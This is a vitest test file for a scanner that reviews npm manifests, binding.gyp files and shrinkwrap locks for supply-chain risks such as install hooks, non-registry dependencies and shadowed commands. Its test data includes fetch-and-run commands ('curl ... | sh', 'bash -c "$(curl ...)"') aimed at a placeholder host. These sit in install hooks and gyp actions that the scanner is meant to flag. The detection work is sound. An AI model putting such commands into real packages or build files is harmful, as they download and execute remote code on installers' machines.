import { describe, expect, it } from 'vitest';
import { declaredFacts } from './declaredFacts.ts';
import { found, npmManifest } from './testing/manifestOf.ts';

describe('package.json', () => {
  const whole = npmManifest(
    {
      name: '@example/tool',
      version: '1.2.3',
      repository: { type: 'git', url: 'git+https://example.invalid/tool.git' },
      main: './lib/index.js',
      module: 'lib/index.mjs',
      exports: { '.': { import: './lib/index.mjs', require: './lib/index.js' }, './extra': ['./lib/extra.js', null] },
      bin: { tool: 'bin/tool.js' },
      scripts: { test: 'vitest', postinstall: 'node lib/setup.js', prepare: 'tsc' },
      dependencies: { ws: '^8.0.0' },
      optionalDependencies: { bufferutil: '4' },
      peerDependencies: { react: '*', vue: '3' },
      peerDependenciesMeta: { vue: { optional: true } },
      devDependencies: { local: 'file:../local' },
      bundleDependencies: ['ws'],
      overrides: { a: '1.0.0', b: { c: '2' } },
      publishConfig: { provenance: true, access: 'public' },
    },
    { 'lib/setup.js': '' },
  );

  it('says what the package is, starts, imports, needs and runs', () => {
    expect(whole).toMatchObject({
      name: '@example/tool',
      version: '1.2.3',
      repository: 'git+https://example.invalid/tool.git',
    });
    expect(whole.entryPoints).toEqual(['lib/index.js', 'lib/index.mjs', 'lib/extra.js']);
    expect(whole.commands).toEqual([{ name: 'tool', target: 'bin/tool.js', file: 'package.json' }]);
    expect(whole.dependencies.map(({ name, kind, from }) => `${name} ${kind} ${from}`)).toEqual([
      'ws runtime registry',
      'bufferutil optional registry',
      'react peer registry',
      'vue extra registry',
      'local development file',
    ]);
    expect(whole.hooks).toEqual([
      expect.objectContaining({ name: 'postinstall', when: 'install', runs: ['lib/setup.js'], line: 25 }),
      expect.objectContaining({ name: 'prepare', when: 'git-install' }),
    ]);
    expect(whole.npm).toMatchObject({
      bundled: ['ws'],
      overrides: ['a: 1.0.0', 'b > c: 2'],
      publishConfig: { provenance: true },
      compilesImplicitly: false,
    });
    expect(found(whole)).toEqual(['manifest.install-hook note 25']);
  });

  it('gives the difference what it compares', () => {
    expect(declaredFacts(whole)).toEqual({
      hooks: ['package.json postinstall: node lib/setup.js'],
      dependencies: { ws: '^8.0.0', bufferutil: '4', react: '*' },
      protections: ['package.json asks for provenance'],
    });
  });

  it('holds a hook that runs what it downloads', () => {
    expect(found(npmManifest({ scripts: { preinstall: 'curl https://example.invalid/x | sh' } }))).toEqual([
      'manifest.install-hook hold 3',
    ]);
    expect(found(npmManifest({ scripts: { build: 'curl https://example.invalid/x | sh' } }))).toEqual([]);
  });

  it.each([
    ['git+https://example.invalid/x.git', 'manifest.remote-dependency review 3'],
    ['git@example.invalid:x/y.git', 'manifest.remote-dependency review 3'],
    ['owner/repository#main', 'manifest.remote-dependency review 3'],
    ['https://example.invalid/x.tgz', 'manifest.remote-dependency review 3'],
    ['file:../x', 'manifest.remote-dependency review 3'],
    ['npm:other@1.0.0', 'manifest.aliased-dependency note 3'],
  ])('says that a dependency %s is not of the registry', (range, expected) => {
    expect(found(npmManifest({ dependencies: { x: range } }))).toEqual([expected]);
    expect(found(npmManifest({ dependencies: { x: '^1.0.0 || latest' } }))).toEqual([]);
  });

  it('says that a command takes the place of another', () => {
    expect(found(npmManifest({ name: 'helper', bin: { ssh: 'x.js' } }))).toEqual([
      'manifest.shadowed-command review 4',
    ]);
    expect(found(npmManifest({ name: 'ssh', bin: 'x.js' }))).toEqual([]);
    expect(found(npmManifest({ name: 'npm', bin: { npm: 'a', npx: 'b' } }))).toEqual([]);
    expect(found(npmManifest({ name: '@yarnpkg/cli', bin: { yarn: 'a' } }))).toEqual([]);
    expect(found(npmManifest({ name: 'su-tool', bin: { sudo: 'a' } }))).toEqual(['manifest.shadowed-command review 4']);
    expect(found(npmManifest({ name: 'helper', bin: { helper: '../../x.js' } }))).toEqual([
      'manifest.disagrees review 4',
    ]);
  });

  it('says where it says something twice', () => {
    const text = '{\n "name": "x",\n "scripts": {},\n "scripts": {"postinstall": "node x"}\n}';
    expect(found(npmManifest(text))).toEqual(['manifest.disagrees review 4', 'manifest.install-hook note 4']);
  });

  it.each([
    ['{\n "name": "x",\n oops }', 3],
    ['[1]', 1],
    ['', 1],
    ['null', 1],
  ])('that is broken is named with its line', (text, line) => {
    const read = npmManifest(text);
    expect(found(read)).toEqual([`manifest.malformed review ${line}`]);
    expect(read.unread).toEqual([{ path: 'package.json', why: expect.stringContaining(`line ${line}`) }]);
  });

  it('that is too large is unread', () => {
    expect(npmManifest(`{"a":"${'x'.repeat(5_000_000)}"}`).unread.map(({ path }) => path)).toEqual(['package.json']);
  });
});

describe('binding.gyp', () => {
  const GYP = `{\n 'targets': [{\n  'include_dirs': ["<!(node -p \\"require('node-addon-api').include\\")"],\n }]\n}`;
  it('compiles at install where no script says so', () => {
    const read = npmManifest({ name: 'x' }, { 'binding.gyp': GYP });
    expect(found(read)).toEqual(['manifest.install-hook note -', 'manifest.build-command note 3']);
    expect(declaredFacts(read).hooks[0]).toBe('binding.gyp: node-gyp rebuild');
    const told = npmManifest({ name: 'x', gypfile: false }, { 'binding.gyp': GYP });
    expect(found(told)).toEqual(['manifest.build-command note 3']);
  });

  it('that runs what it downloads holds', () => {
    const gyp = `{ 'variables': { 'x': '<!@(curl https://example.invalid/x | sh)' },\n'actions': [{ 'action': ['bash', '-c', "$(curl https://example.invalid/y)"] }] }`;
    expect(found(npmManifest({ name: 'x', gypfile: false }, { 'binding.gyp': gyp }))).toEqual([
      'manifest.build-command hold 1',
      'manifest.build-command hold 2',
    ]);
  });
});

describe('npm-shrinkwrap.json', () => {
  const lock = (extra: object) =>
    JSON.stringify({
      lockfileVersion: 3,
      packages: {
        '': { name: 'x' },
        'node_modules/a': { resolved: 'https://registry.example/a.tgz', integrity: 'sha512-x' },
        'node_modules/b': { resolved: 'https://registry.example/b.tgz', integrity: 'sha512-x' },
        'node_modules/c': extra,
      },
    });
  it('names what comes from elsewhere or without a hash', () => {
    const read = (extra: object) => found(npmManifest({ name: 'x' }, { 'npm-shrinkwrap.json': lock(extra) }));
    expect(read({ resolved: 'https://registry.example/c.tgz', integrity: 'sha512-x' })).toEqual([]);
    for (const extra of [
      { resolved: 'https://elsewhere.example/c.tgz', integrity: 'sha512-x' },
      { resolved: 'http://registry.example/c.tgz', integrity: 'sha512-x' },
      { resolved: 'https://registry.example/c.tgz' },
      { resolved: 'git+ssh://git@elsewhere.example/c.git#1', integrity: 'sha512-x' },
    ]) {
      expect(read(extra)).toEqual(['manifest.remote-dependency review -']);
    }
  });
});
